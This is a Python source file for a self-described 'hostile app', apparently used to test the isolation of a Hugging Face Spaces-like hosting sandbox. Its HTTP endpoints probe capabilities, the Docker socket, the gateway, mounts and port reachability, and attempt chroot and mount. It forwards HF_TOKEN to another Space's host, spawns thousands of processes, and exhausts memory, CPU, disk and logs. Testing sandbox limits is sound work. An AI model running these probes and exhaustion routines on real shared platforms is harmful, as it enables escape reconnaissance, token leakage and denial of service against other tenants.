"""A hostile app: on GET /probe?targets=host:port,... it reports what it can see and reach.

GET /call?space=owner/name calls another Space as an app on Hugging Face does (what
gradio_client does): the Space's info from HF_ENDPOINT, then its host, with HF_TOKEN if set.
"""

import json
import os
import socket
import subprocess
import urllib.error
import urllib.request
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import parse_qs, urlparse


def status_fields() -> dict:
    fields = {}
    with open("/proc/self/status") as fh:
        for line in fh:
            key, _, value = line.partition(":")
            if key in ("CapEff", "CapPrm", "CapBnd", "NoNewPrivs", "Seccomp"):
                fields[key] = value.strip()
    return fields


def read(path: str) -> str:
    with open(path) as fh:
        return fh.read()


def reach(target: str) -> bool:
    host, _, port = target.rpartition(":")
    try:
        with socket.create_connection((host, int(port)), timeout=1.5):
            return True
    except OSError:
        return False


def gateway() -> str:
    with open("/proc/net/route") as fh:
        for line in fh.readlines()[1:]:
            parts = line.split()
            if parts[1] == "00000000":
                raw = bytes.fromhex(parts[2])[::-1]
                return ".".join(str(b) for b in raw)
    return ""


def fetch(url: str, headers: dict) -> dict:
    try:
        with urllib.request.urlopen(urllib.request.Request(url, headers=headers), timeout=10) as r:
            return {"status": r.status, "body": r.read().decode(errors="replace")}
    except urllib.error.HTTPError as exc:
        return {"status": exc.code, "body": exc.read().decode(errors="replace")[:300]}
    except (OSError, ValueError) as exc:
        return {"status": None, "error": str(getattr(exc, "reason", exc))}


def call(space: str, host: str = "") -> dict:
    """What the Space `space` answered to this app: its info, then its own host's /whoami
    (`host`, a guess, when its info is refused)."""
    endpoint = os.environ.get("HF_ENDPOINT", "").rstrip("/")
    token = os.environ.get("HF_TOKEN")
    auth = {"Authorization": f"Bearer {token}"} if token else {}
    out = {"endpoint": endpoint, "info": fetch(f"{endpoint}/api/spaces/{space}", auth)}
    if out["info"]["status"] == 200:
        host = json.loads(out["info"]["body"])["host"]
    if host:
        out["host"] = host
        # gradio_client sends the token to a Space's host as x-hf-authorization.
        app_auth = {"x-hf-authorization": f"Bearer {token}"} if token else {}
        out["app"] = fetch(f"{host}/whoami", app_auth)
    return out


def run(cmd: list[str], timeout: float = 20) -> str:
    try:
        proc = subprocess.run(cmd, capture_output=True, text=True, timeout=timeout)
        return f"{(proc.stdout + proc.stderr).strip()[-300:]} [rc={proc.returncode}]"
    except Exception as exc:
        return f"error: {exc}"


class Handler(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        url = urlparse(self.path)
        query = parse_qs(url.query)
        if url.path == "/probe":
            targets = [t for t in query.get("targets", [""])[0].split(",") if t]
            gw = gateway()
            body = {
                "uid": os.getuid(),
                "gid": os.getgid(),
                "status": status_fields(),
                "docker_sock": os.path.exists("/var/run/docker.sock"),
                "gateway": gw,
                "reach": {
                    t.replace("GATEWAY", gw): reach(t.replace("GATEWAY", gw)) for t in targets
                },
                "mounts": read("/proc/self/mounts"),
                "kernel": read("/proc/version").strip(),
                "chroot_attempt": run(["python", "-c", "import os; os.chroot('/')"]),
                "mount_attempt": run(
                    [
                        "python",
                        "-c",
                        "import ctypes; l=ctypes.CDLL(None); "
                        "print(l.mount(b'none', b'/tmp', b'tmpfs', 0, None))",
                    ]
                ),
            }
        elif url.path == "/call":
            body = call(query.get("space", [""])[0], query.get("host", [""])[0])
        elif url.path == "/whoami":
            body = {"space_id": os.environ.get("SPACE_ID")}
        elif url.path == "/ip":
            body = {"ip": socket.gethostbyname(socket.gethostname())}
        elif url.path == "/forkbomb":
            body = {"out": run(["sh", "-c", "for i in $(seq 3000); do sleep 4 & done; echo done"])}
        elif url.path == "/memhog":
            hog = "x = []\nwhile True:\n    x.append(bytearray(16 * 2**20))"
            body = {"out": run(["python", "-c", hog])}
        elif url.path == "/burn":
            seconds = query.get("seconds", ["8"])[0]
            burn = f"import time; t = time.time() + {seconds}\nwhile time.time() < t: pass"
            for _ in range(4):
                subprocess.Popen(["python", "-c", burn])
            body = {"out": "burning"}
        elif url.path == "/fill":  # the app's own files, outside /data (its writable layer)
            megabytes = int(query.get("mb", ["100"])[0])
            fill = (
                "import os\nchunk = os.urandom(2**20)\n"
                "with open('/home/user/app/fill', 'wb') as fh:\n"
                f"    for _ in range({megabytes}):\n"
                "        fh.write(chunk)\n"
                "    fh.flush(); os.fsync(fh.fileno())\n"
                "print(os.path.getsize('/home/user/app/fill'))"
            )
            body = {"out": run(["python", "-c", fill], timeout=120)}
        elif url.path == "/flood":  # megabytes per second on stdout, into the engine's log
            seconds = query.get("seconds", ["10"])[0]
            flood = (
                f"import sys, time; line = 'flood ' * 170 + chr(10); t = time.time() + {seconds}"
                "\nwhile time.time() < t: sys.stdout.write(line * 64)"
            )
            subprocess.Popen(["python", "-c", flood])
            body = {"out": "flooding"}
        else:
            body = {"ok": True}
        data = json.dumps(body).encode()
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def log_message(self, *args: object) -> None:
        pass


ThreadingHTTPServer(("0.0.0.0", int(os.environ.get("PORT", "7860"))), Handler).serve_forever()
